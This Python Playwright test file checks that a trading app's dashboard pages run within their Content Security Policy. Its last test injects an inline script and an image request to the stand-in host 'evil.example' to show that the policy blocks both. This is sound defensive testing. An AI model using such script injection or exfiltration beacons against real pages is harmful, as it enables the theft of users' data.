"""Our pages in a browser that holds them to the rules that they come with."""

from collections.abc import AsyncIterator
from typing import Any

import httpx
import pytest
import pytest_asyncio
from playwright.async_api import Browser, Page, async_playwright, expect

from tests.dashboard.conftest import ARGUMENTS, chromium  # noqa: F401 - a fixture, known by its name
from tests.running import Router

pytestmark = [pytest.mark.asyncio(loop_scope="module"), pytest.mark.timeout(180)]

WATCH = """
window.refused = [];
document.addEventListener("securitypolicyviolation", event =>
    window.refused.push(`${event.violatedDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`));
"""
# What must be there once a page's scripts have run.
ALIVE = {
    "/": "#touch tr[data-symbol=BTCUSDT] td:nth-child(2)",
    "/docs": ".swagger-ui .opblock",
    "/redoc": "#redoc-container [data-section-id]",
    "/ws-docs": "h1",
    "/session/login": "input[name=username]",
    "/admin/login/": "input[name=username]",
    "/info": "pre.prettyprint",
}
REDOCS_LOGO = "https://cdn.redoc.ly/"  # a picture of its maker, which it does without


@pytest.fixture(scope="module")
def profile() -> str:
    return "embedded"


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def browser(chromium: str) -> AsyncIterator[Browser]:  # noqa: F811
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path=chromium, args=list(ARGUMENTS))
        yield browser
        await browser.close()


@pytest_asyncio.fixture(loop_scope="module")
async def page(browser: Browser) -> AsyncIterator[Page]:
    context = await browser.new_context()
    page = await context.new_page()
    page.set_default_timeout(30_000)
    await page.add_init_script(WATCH)
    yield page
    await context.close()


async def refused(page: Page) -> list[str]:
    """Return what the page's rules refused it."""
    told: list[str] = await page.evaluate("window.refused")
    return [one for one in told if REDOCS_LOGO not in one]


@pytest.mark.parametrize("path", ALIVE)
async def test_a_page_works_within_its_rules(router: Router, page: Page, path: str) -> None:
    faults: list[Any] = []
    page.on("pageerror", lambda fault: faults.append(fault))
    await page.goto(router.url + path)
    await page.locator(ALIVE[path]).first.wait_for()
    assert await refused(page) == []
    assert faults == []


async def test_the_front_page_keeps_itself_up_to_date(router: Router, page: Page) -> None:
    await page.goto(router.url)
    await page.evaluate(
        "for (const cell of document.querySelectorAll('#touch td:nth-child(2)')) cell.textContent = 'old'"
    )
    await expect(page.locator("#touch tr[data-symbol=BTCUSDT] td:nth-child(2)")).not_to_have_text("old")


async def test_a_person_trades_in_the_browsable_pages_within_their_rules(router: Router, page: Page) -> None:
    user = {"username": "browser", "password": "password123"}
    async with httpx.AsyncClient(base_url=router.url) as http:
        (await http.post("/register", json=user)).raise_for_status()
    await page.goto(f"{router.url}/session/login?next=/deposit")
    await page.fill("input[name=username]", user["username"])
    await page.fill("input[name=password]", user["password"])
    await page.click("input[type=submit]")
    await page.locator("textarea[name=_content]").first.fill('{"asset": "USDT", "amount": 12}')
    async with page.expect_response(lambda answer: answer.request.method == "POST") as posted:
        await page.get_by_role("button", name="POST").click()
    assert (await posted.value).status == 200
    await page.goto(f"{router.url}/balance")
    await expect(page.get_by_label("response info")).to_contain_text('"total": 12')
    assert await refused(page) == []
    await page.get_by_role("button", name="Log out").click()
    await page.goto(f"{router.url}/info")
    await expect(page.get_by_role("link", name="Log in")).to_be_visible()


async def test_a_script_smuggled_into_a_page_does_not_run(router: Router, page: Page) -> None:
    """The control: the rules that every page above lived within do refuse something."""
    await page.goto(router.url + "/info")
    await page.evaluate(
        """() => {
            const script = document.createElement("script");
            script.textContent = "window.smuggled = true";
            document.body.append(script);
            const picture = document.createElement("img");
            picture.src = "https://evil.example/?told=everything";
            document.body.append(picture);
        }"""
    )
    await page.wait_for_function("window.refused.length >= 2")
    assert await page.evaluate("window.smuggled") is None
    assert sorted(one.split()[0] for one in await refused(page)) == ["img-src", "script-src-elem"]
